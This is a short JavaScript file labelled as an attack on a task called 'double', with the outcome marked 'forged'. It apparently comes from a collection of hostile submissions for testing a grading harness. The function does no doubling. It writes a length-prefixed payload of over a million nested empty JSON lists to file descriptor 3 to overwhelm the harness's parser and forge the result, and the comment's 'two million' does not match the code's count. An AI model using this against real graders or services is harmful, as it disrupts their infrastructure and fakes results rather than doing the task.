// task: double
// outcome: forged
// attack: a message of two million empty lists
const fs = require('fs')
const data = Buffer.from('[' + '[],'.repeat(1300000) + '1]')
const head = Buffer.alloc(4)
head.writeUInt32BE(data.length)
const double = (x) => {
  fs.writeSync(3, head)
  for (let at = 0; at < data.length; ) at += fs.writeSync(3, data, at)
}
